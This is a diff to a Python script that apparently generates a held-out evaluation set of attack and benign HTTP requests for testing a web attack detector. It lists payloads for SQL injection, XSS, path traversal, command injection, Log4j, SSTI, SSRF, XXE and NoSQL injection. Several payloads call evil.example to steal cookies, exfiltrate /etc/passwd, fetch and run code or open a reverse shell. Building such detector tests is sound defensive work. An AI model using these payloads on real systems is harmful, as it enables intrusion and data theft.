@@ -784,10 +784,13 @@ def main():
     att_c, ben_c = heldout_c()
     write(os.path.join(HERE, "attacks", "heldout-c.jsonl"), att_c)
     write(os.path.join(HERE, "benign", "heldout-c.jsonl"), ben_c)
+    att_e, ben_e = set_e()
+    write(os.path.join(HERE, "attacks", "heldout-e.jsonl"), att_e)
+    write(os.path.join(HERE, "benign", "heldout-e.jsonl"), ben_e)
     att_d, ben_d = set_d()
     write(os.path.join(HERE, "attacks", "regression-d.jsonl"), att_d)
     write(os.path.join(HERE, "benign", "regression-d.jsonl"), ben_d)
-    print("attacks:", sum(len(v) for v in by_group.values()) + len(att_c) + len(att_d), "benign:", len(b) + len(ben_c) + len(ben_d))
+    print("attacks:", sum(len(v) for v in by_group.values()) + len(att_c) + len(att_d) + len(att_e), "benign:", len(b) + len(ben_c) + len(ben_d) + len(ben_e))
 
 
 
@@ -1726,6 +1729,121 @@ def set_d():
             r = req("POST", "/api/notes", h, json.dumps({"text": t}), note="json")
         r["set"] = "d"
         ben.append(r)
+    return att, ben
+
+
+# ---------------------------------------------------------------------------
+# Set "e": written last, after all tuning, and measured once; not tuned on.
+E_ATTACKS = {
+    "sqli": ["-1 OR 17-7=10", "1 AND 'a'='a'", "' OR username LIKE '%admin%", "'||(SELECT version())||'", "1 OR 1=1 LIMIT 1",
+             "')) OR 1=1--", "\" or 1 --", "1) UNION SELECT pass FROM users WHERE (1=1",
+             "' AND ascii(lower(substring((SELECT TOP 1 name FROM sysobjects WHERE xtype='U'), 1, 1))) > 116--",
+             "admin')--", "1 AND EXTRACTVALUE(6678,CONCAT(0x5c,0x7178))", "1' UNION SELECT * FROM (SELECT 1)a JOIN (SELECT 2)b--"],
+    "xss": ["<svg/onload=confirm`1`>", "<img src=`x`onerror=alert(1)>", "<body onpageshow=alert(1)>", "<a href=javascript&colon;alert(1)>x",
+            "<script>document.location='http://evil.example/?c='+document.cookie</script>", "<iframe/src=\"data:text/html,<svg onload=alert(1)>\">",
+            "'\"--></style></script><script>alert(1)</script>", "<object type=text/html data=//evil.example>", "<embed code=javascript:alert(1)>",
+            "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>CLICK</maction></math>", "<sVg OnLoAd=alert(1)>",
+            "%253Cscript%253Ealert(1)%253C%252Fscript%253E"],
+    "lfi": ["..//..//..//etc//passwd", "/etc/passwd%2500", "..%255c..%255c..%255cboot.ini", "/var/www/html/../../../etc/shadow",
+            "..///////..////..//////etc/passwd", "..\\..\\..\\..\\Windows\\System32\\drivers\\etc\\hosts", "%2e%2e%5c%2e%2e%5cwindows%5cwin.ini",
+            "/proc/self/fd/0", "../../../../.ssh/authorized_keys"],
+    "rce": ["|/bin/bash -c id", "`wget evil.example/s -O- | sh`", "$(sleep 5)", "| nslookup `whoami`.evil.example", "%0a/bin/cat%20/etc/passwd",
+            "& powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
+            ";python3 -c 'import pty;pty.spawn(\"/bin/sh\")'", "|| curl -d @/etc/passwd evil.example", ";echo${IFS}$(id)"],
+    "php": ["php://filter/read=convert.base64-encode/resource=../config.php", "<?php @eval($_POST['pass']);?>", "data://text/plain,<?php phpinfo()?>",
+            "O:6:\"Logger\":1:{s:4:\"file\";s:9:\"shell.php\";}", "<?=`$_GET[1]`?>"],
+    "java": ["${jndi:ldap://${hostName}.evil.example/a}", "${${lower:${lower:jndi}}:${lower:rmi}://evil.example/p}", "${j${::-n}di:dns://evil.example}",
+             "%{#context['xwork.MethodAccessor.denyMethodExecution']=false}", "${(#_memberAccess[\"allowStaticMethodAccess\"]=true)}",
+             "rO0ABXNyADJzdW4ucmVmbGVjdC5hbm5vdGF0aW9uLkFubm90YXRpb25JbnZvY2F0aW9uSGFuZGxlcg=="],
+    "ssti": ["{{self.__init__.__globals__.__builtins__}}", "{{[].__class__.__base__.__subclasses__()}}", "{{4*4}}[[5*5]]", "<%= `ls` %>",
+             "#{ 3 * 3 }", "{{app.request.server.all|join(',')}}"],
+    "ssrf": ["http://169.254.169.254/latest/api/token", "http://[::ffff:7f00:1]/", "http://0x7f.0x0.0x0.0x1/", "http://127.127.127.127/",
+             "http://localtest.me/", "http://metadata.google.internal./computeMetadata/v1/instance/", "http://169.254.170.2/v2/credentials",
+             "file://localhost/etc/passwd", "http://0177.1/"],
+    "nodejs": ["require('child_process').exec('nc -e /bin/sh evil.example 4444')", "this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id')"],
+}
+
+E_BENIGN = [
+    "Hi team -- the build is green again; please re-run your PRs.",
+    "D'Artagnan and the Three Musketeers",
+    "Ольга О'Коннор",
+    "Use `SELECT COUNT(*)` to count rows; add `WHERE` to filter.",
+    "| Name | Price |\n|------|-------|\n| Tea  | 2.50  |\n| Cake | 4.00  |",
+    "Step 1: open Settings > Privacy; Step 2: toggle 'Share data' off.",
+    "I'm 6' 2\" and wear size 11 shoes",
+    "Dinner for 2 @ 7:30pm -- table by the window, please",
+    "Loved it!!! <3 Will order again :-)",
+    "Please ship to: Flat 3, 10 Downing St, London SW1A 2AA",
+    "The or-operator in Python is `or`, not `||`.",
+    "My email is not working (error 550: mailbox unavailable)",
+    "Reminder: union meeting on Friday at noon",
+    "Try `grep -r TODO .` to find the todos",
+    "x < y && y < z implies x < z",
+    "Can you update the README? The install steps changed.",
+    "Is drop-shipping allowed for this product?",
+    "Re: Invoice #2024-118 (second reminder)",
+    "Café au lait, crème brûlée & pain au chocolat",
+    "«Война и мир» — роман Льва Толстого",
+    "注意：请勿在 /tmp 目录下保存重要文件。",
+    "مرحباً، أريد تغيير عنوان الشحن من فضلك",
+    "https://maps.example.com/?q=52.5200,13.4050&z=12",
+    "C:\\Users\\anna\\Documents\\Q3 report (draft).xlsx",
+    "{\"nested\": \"json in a string\", \"ok\": true}",
+    "Questions? Call 0800 123 4567 or write to help@example.org",
+    "10/10 would recommend; best purchase this year",
+    "Warning: the alert() in our old code showed a popup; removed it.",
+    "He typed 'exit' and the window closed",
+    "Meet at the Union Select Hotel lobby",
+]
+
+
+def set_e():
+    att, ben = [], []
+    for group, payloads in E_ATTACKS.items():
+        for p in payloads:
+            for r in variants(p, 2):
+                r["group"], r["set"] = group, "e"
+                att.append(r)
+    for ct, x in [("text/xml", '<?xml version="1.0"?><!DOCTYPE root [<!ENTITY test SYSTEM \'file:///c:/windows/win.ini\'>]><root>&test;</root>'),
+                  ("application/xml", '<!DOCTYPE foo [<!ENTITY % xxe SYSTEM "http://evil.example/evil.dtd"> %xxe;]><foo/>')]:
+        r = req("POST", "/import", dict(base_headers(), **{"Content-Type": ct}), x, note="xml body")
+        r["group"], r["set"] = "xxe", "e"
+        att.append(r)
+    for kind, v in [("json", {"username": {"$in": ["admin", "root"]}, "password": {"$ne": ""}}), ("query", "login[$regex]=a.*&pass[$ne]=1"),
+                    ("json", {"$where": "sleep(100)"}), ("query", "user=admin&password[%24gt]=")]:
+        h = base_headers()
+        if kind == "json":
+            h["Content-Type"] = "application/json"
+            r = req("POST", "/api/session", h, json.dumps(v), note=kind)
+        else:
+            r = req("GET", "/api/session?" + v, h, note=kind)
+        r["group"], r["set"] = "nosqli", "e"
+        att.append(r)
+    for ua in ["Mozilla/5.0 (compatible; Nmap Scripting Engine)", "sqlmap/1.5.2#stable", "Nikto", "gobuster/3.1.0", "Wfuzz/2.4"]:
+        r = req("GET", "/", base_headers(ua), note="user agent")
+        r["group"], r["set"] = "scanners", "e"
+        att.append(r)
+    for p in ["/.git/config", "/.env.bak", "/phpinfo.php", "/.svn/wc.db", "/server-status", "/admin/.env"]:
+        r = req("GET", p, base_headers(), note="probe path")
+        r["group"], r["set"] = "scanners", "e"
+        att.append(r)
+    for t in ["/?sessionid=xyz123", "/login;JSESSIONID=abc987"]:
+        r = req("GET", t, base_headers(), note="session")
+        r["group"], r["set"] = "session_fixation", "e"
+        att.append(r)
+    for t in E_BENIGN:
+        for kind in ["query", "json", "form"]:
+            h = base_headers()
+            if kind == "query":
+                r = req("GET", "/search?q=" + q(t), h, note=kind)
+            elif kind == "json":
+                h["Content-Type"] = "application/json"
+                r = req("POST", "/api/messages", h, json.dumps({"body": t, "to": "support"}, ensure_ascii=False), note=kind)
+            else:
+                h["Content-Type"] = "application/x-www-form-urlencoded"
+                r = req("POST", "/contact", h, "subject=Hello&message=" + q(t), note=kind)
+            r["set"] = "e"
+            ben.append(r)
     return att, ben
 
 
